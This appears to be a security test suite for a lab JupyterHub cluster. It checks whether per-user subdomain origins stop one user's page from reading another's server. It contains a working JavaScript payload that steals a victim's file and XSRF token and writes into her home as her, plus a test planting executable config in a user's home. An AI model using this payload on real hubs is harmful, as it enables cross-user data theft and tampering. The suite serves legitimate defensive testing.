"""One origin per user server (jupyterhub_subdomain_host), in Debian's Chromium against the lab hub.

The threat: bob makes his server answer whatever he likes (it is his process), so a page of his server can
run his script in the browser of anyone who opens it. In the lab's default setup every server shares the
hub's origin, and that script reads alice's server in alice's browser; with one origin per server the
browser's same-origin policy stops it. "Bob's page" is a real answer of bob's real server (his 403 to
alice, his own page to bob), and the script runs in it (Playwright's evaluate): the same origin, the same
cookies, the same rules as a script bob's server had served itself.

Chromium resolves every name under localhost to loopback, where the lab publishes the hub, so the lab can
use https://lab.localhost:PORT as the subdomain host without DNS. The browser ignores certificate errors
as test_browser.py does (the lab's self-signed certificate is not in its store); that the certificate covers
the hub's and the servers' names is checked with Python's verifier, strictly.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import ssl
from pathlib import Path

import pytest
import requests
from conftest import CHROMIUM, LAB_USERS, ROOT, reconfigure_hub, squeue_jobs, wait_for
from hubclient import HUB_URL, Hub

ARTIFACTS = Path(os.environ.get("CLUSTERHUB_ARTIFACTS", ROOT / "artifacts"))
PORT = int(os.environ.get("CLUSTERHUB_LAB_HUB_PORT", "8443"))
DOMAIN = "lab.localhost"
SUBDOMAIN_HOST = f"https://{DOMAIN}:{PORT}"
CONFIG = "/etc/jupyterhub/jupyterhub_config.py"
PROXY_UNIT = "/etc/systemd/system/jupyterhub-proxy.service"

pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian's chromium is not installed")

# Bob's page is an answer of his server that the browser runs his script in. The answers his honest server
# gives carry its Content-Security-Policy (API answers: default-src 'none', which forbids fetch and windows);
# bob's own page would carry none, so the contexts below bypass CSP: what protects alice must be the
# origins, not a header bob's server is free to leave out.
# Bob's script reads `url` (alice's server) with the browser's credentials: by fetch(), and in a window it
# opens (a navigation, which JupyterHub lets through without an XSRF token; her server's pages refuse to be
# framed, frame-ancestors 'none', but a window is no frame). From that window it takes alice's XSRF token and
# writes `write`, a new file, into her home. It returns what it could read and do.
ATTACK = """
async ([url, write]) => {
  const result = {};
  try {
    const r = await fetch(url, {credentials: "include"});
    result.fetch = {status: r.status, body: (await r.text()).slice(0, 1000)};
  } catch (e) {
    result.fetch = {error: String(e)};
  }
  const w = window.open(url, "_blank");
  if (!w) {
    result.window = {error: "no window"};
    return result;
  }
  await new Promise((done) => {
    const poll = setInterval(() => {
      try {
        if (w.location.href === "about:blank" || w.document.readyState !== "complete") return;
      } catch (e) {}  // another origin's window: nothing of it to wait for
      clearInterval(poll);
      done();
    }, 100);
    setTimeout(() => { clearInterval(poll); done(); }, 15000);
  });
  try {
    result.window = {body: w.document.body.innerText.slice(0, 1000)};
    const xsrf = w.document.cookie.match(/(?:^|; )(?:__Host-)?_xsrf=([^;]*)/);
    if (xsrf) {
      const put = await w.fetch(write, {
        method: "PUT", credentials: "include",
        headers: {"Content-Type": "application/json", "X-XSRFToken": decodeURIComponent(xsrf[1])},
        body: JSON.stringify({type: "file", format: "text", content: "written by bob's page"}),
      });
      result.write = {status: put.status};
    }
  } catch (e) {
    result.window = {error: String(e)};
  }
  w.close();
  return result;
}
"""


def stop_all(hub_as, login) -> None:
    for user in ("alice", "bob"):
        hub_as(user).stop()
    wait_for(lambda: not squeue_jobs(login, "alice") and not squeue_jobs(login, "bob"), what="the jobs gone")


@pytest.fixture
def secret(login):
    """A file only alice may read, in her home: what bob's page is after."""
    name = f"clusterhub-secret-{secrets.token_hex(4)}.txt"
    value = secrets.token_hex(16)
    login.check_output(f"runuser -u alice -- sh -c 'umask 077; printf %s {value} > /home/alice/{name}'")
    yield name, value
    login.check_output(f"rm -f /home/alice/{name} /home/alice/bob-wrote-{name}")


@pytest.fixture
def servers(hub_as, login):
    """alice and bob each with a running server (small profile), stopped again afterwards."""
    stop_all(hub_as, login)
    for user in ("alice", "bob"):
        hub_as(user).start(options={"profile": "small"})
    yield
    stop_all(hub_as, login)


def sign_in(context, base: str, user: str):
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.goto(f"{base}/hub/login")
    page.fill("input[name=username]", user)
    page.fill("input[name=password]", LAB_USERS[user])
    with page.expect_navigation():
        page.click("input[type=submit], button[type=submit]")
    assert "/hub/login" not in page.url, f"{user} could not log in at {base}"
    return page


def tls_names_ok(cert: str, name: str) -> bool:
    """Whether the hub's certificate verifies strictly for `name` (SNI and host name check) on the lab's port."""
    context = ssl.create_default_context(cafile=cert)
    try:
        with (
            socket.create_connection(("127.0.0.1", PORT), timeout=10) as raw,
            context.wrap_socket(raw, server_hostname=name),
        ):
            return True
    except ssl.SSLCertVerificationError:
        return False


def certificate_names(hub) -> set[str]:
    out = hub.check_output("openssl x509 -in /etc/jupyterhub/tls/hub.crt -noout -ext subjectAltName")
    return {part.strip().removeprefix("DNS:") for part in out.splitlines()[-1].split(",")}


def test_servers_ignore_the_configuration_files_in_the_users_home(hub_as, login):
    """disable_user_config (on by default): a ~/.jupyter/jupyter_server_config.py of bob's is Python the server
    would run at start; it does not. The same file does run when bob loads a server configuration himself (so
    it is where a server would read it)."""
    bob = hub_as("bob")
    bob.stop()
    marker = f"/home/bob/clusterhub-user-config-{secrets.token_hex(4)}"
    config = (
        f"open({marker!r} + '-' + __import__('os').environ.get('SLURM_JOB_ID', 'none'), 'w').close()\n"
        "c.ServerApp.tornado_settings = {'headers': {'X-Bob-Config': 'loaded'}}\n"
    )
    login.check_output(
        "runuser -u bob -- sh -c 'mkdir -p /home/bob/.jupyter && cat > /home/bob/.jupyter/jupyter_server_config.py'"
        f" <<'EOF'\n{config}EOF"
    )
    try:
        bob.start(options={"profile": "small"})
        job = squeue_jobs(login, "bob")[0]
        r = bob.user_get("/api/status")
        assert r.status_code == 200 and "X-Bob-Config" not in r.headers
        assert not login.file(f"{marker}-{job}").exists, "the server ran bob's own configuration file"
        loaded = bob.run_code(
            "import os\n"
            "from jupyter_server.serverapp import ServerApp\n"
            "app = ServerApp(); app.load_config_file()\n"
            "print(os.environ.get('JUPYTERHUB_DISABLE_USER_CONFIG'), app.tornado_settings.get('headers'))\n"
        )
        assert loaded.strip().split(None, 1) == ["1", "{'X-Bob-Config': 'loaded'}"], loaded
    finally:
        bob.stop()
        login.check_output(f"rm -f /home/bob/.jupyter/jupyter_server_config.py {marker}-*")


def test_one_origin_for_all_servers_lets_bobs_page_read_and_write_alices_server(browser, servers, secret, login):
    """The lab's default (no jupyterhub_subdomain_host), and what the role's README says of it: a page of bob's
    server opened in alice's browser reads alice's server and writes into her home, as her. Not a defect of
    the lab; the reason sites with untrusted users turn one origin per server on."""
    name, value = secret
    context = browser.new_context(ignore_https_errors=True, bypass_csp=True)  # bob's page sets no CSP (see ATTACK)
    try:
        alice = sign_in(context, HUB_URL, "alice")
        alice.goto(f"{HUB_URL}/user/alice/")  # her server, as she opens it: its login cookie
        mine = alice.goto(f"{HUB_URL}/user/alice/api/contents/{name}")
        assert mine.status == 200 and value in alice.content()  # alice's own server, as she uses it
        bobs = alice.goto(f"{HUB_URL}/user/bob/api/status")  # a page of bob's server (his 403 to her)
        assert bobs.status == 403 and alice.url.startswith(f"{HUB_URL}/user/bob/")
        stolen = alice.evaluate(
            ATTACK, [f"{HUB_URL}/user/alice/api/contents/{name}", f"{HUB_URL}/user/alice/api/contents/bob-wrote-{name}"]
        )
        assert value in stolen["window"].get("body", ""), stolen
        assert stolen.get("write", {}).get("status") == 201, stolen
        assert login.file(f"/home/alice/bob-wrote-{name}").user == "alice"  # written as alice
    finally:
        context.close()


# --- one origin per user server --------------------------------------------------------------------------


def follow_certificate(hub, hub_cert: str) -> str:
    """Copy the hub's current certificate into this session's copy (hub_cert), which every client verifies
    against: turning the option on or off makes a new one."""
    Path(hub_cert).write_text(hub.file("/etc/jupyterhub/tls/hub.crt").content_string)
    wait_for(
        lambda: requests.get(f"{HUB_URL}/hub/health", verify=hub_cert, timeout=5).status_code == 200,
        what="the hub behind the proxy, with its new certificate",
    )
    return hub_cert


@pytest.fixture(scope="module")
def subdomains(hub, hub_as, hub_cert, login):
    """The lab hub with jupyterhub_subdomain_host on; afterwards the lab's own values again, checked."""
    names_before = certificate_names(hub)
    stop_all(hub_as, login)  # servers started under one origin keep its URLs
    try:
        on = reconfigure_hub("-e", json.dumps({"jupyterhub_subdomain_host": SUBDOMAIN_HOST}))
        assert on.returncode == 0, on.stdout[-3000:]
        yield follow_certificate(hub, hub_cert)
    finally:
        try:
            stop_all(hub_as, login)
        finally:
            off = reconfigure_hub()
            assert off.returncode == 0, off.stdout[-3000:]
        assert "subdomain_host" not in hub.file(CONFIG).content_string
        assert "--host-routing" not in hub.file(PROXY_UNIT).content_string
        assert certificate_names(hub) == names_before
        follow_certificate(hub, hub_cert)
        assert not tls_names_ok(hub_cert, f"alice.{DOMAIN}")
        alice = Hub("alice", LAB_USERS["alice"], verify=hub_cert)  # a login as before, on the lab's usual URL
        assert alice.get("/users/alice").status_code == 200


@pytest.mark.security
def test_with_one_origin_per_server_bobs_page_cannot_read_alices_server(browser, subdomains, servers, secret, login):
    """The attack above, with jupyterhub_subdomain_host on: alice's server is https://alice.HOST, bob's
    https://bob.HOST. In alice's browser, logged in to her server, bob's page reads nothing of it and writes
    nothing; alice's own page and bob's own page work."""
    name, value = secret
    alice_url = f"https://alice.{DOMAIN}:{PORT}/user/alice"
    bob_url = f"https://bob.{DOMAIN}:{PORT}/user/bob"
    for host in (DOMAIN, f"alice.{DOMAIN}", f"bob.{DOMAIN}"):
        assert tls_names_ok(subdomains, host), f"the hub's certificate does not cover {host}"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    context = browser.new_context(ignore_https_errors=True, bypass_csp=True)  # bob's page sets no CSP (see ATTACK)
    page = None
    try:
        page = sign_in(context, SUBDOMAIN_HOST, "alice")
        page.goto(f"{alice_url}/")
        mine = page.goto(f"{alice_url}/api/contents/{name}")
        assert mine.status == 200 and value in page.content(), "alice cannot read her own server"
        cookies = {c["name"]: c for c in context.cookies()}
        assert cookies["__Host-jupyterhub-user-alice"]["domain"] == f"alice.{DOMAIN}"
        assert cookies["__Host-jupyterhub-hub-login"]["domain"] == DOMAIN
        bobs = page.goto(f"{bob_url}/api/status")
        assert bobs.status == 403 and page.url.startswith(f"{bob_url}/")  # a page of bob's server, his origin
        tried = page.evaluate(
            ATTACK, [f"{alice_url}/api/contents/{name}", f"{alice_url}/api/contents/bob-wrote-{name}"]
        )
        assert value not in json.dumps(tried), tried
        assert tried["fetch"].get("error") == "TypeError: Failed to fetch", tried  # CORS: no answer for bob's origin
        assert "cross-origin frame" in tried["window"].get("error", ""), tried  # her window is not bob's to read
        assert "write" not in tried, tried
        assert not login.file(f"/home/alice/bob-wrote-{name}").exists
        page.screenshot(path=str(ARTIFACTS / "subdomains-alice-on-bobs-page.png"))
    except Exception:
        if page is not None:
            page.screenshot(path=str(ARTIFACTS / "failure-subdomains-alice.png"))
        raise
    finally:
        context.close()
    context = browser.new_context(ignore_https_errors=True, bypass_csp=True)  # bob's page sets no CSP (see ATTACK)
    try:
        page = sign_in(context, SUBDOMAIN_HOST, "bob")
        own = page.goto(f"{bob_url}/api/status")
        assert own.status == 200, "bob cannot use his own server"
        # the same script on bob's own server, in his browser: it reads and writes there
        works = page.evaluate(ATTACK, [f"{bob_url}/api/contents", f"{bob_url}/api/contents/clusterhub-own-{name}"])
        assert '"type": "directory"' in works["window"].get("body", ""), works
        assert works.get("write", {}).get("status") == 201, works
        tried = page.evaluate(
            ATTACK, [f"{alice_url}/api/contents/{name}", f"{alice_url}/api/contents/bob-wrote-{name}"]
        )
        assert value not in json.dumps(tried) and "error" in tried["fetch"] and "write" not in tried, tried
    finally:
        context.close()
        login.check_output(f"rm -f /home/bob/clusterhub-own-{name}")
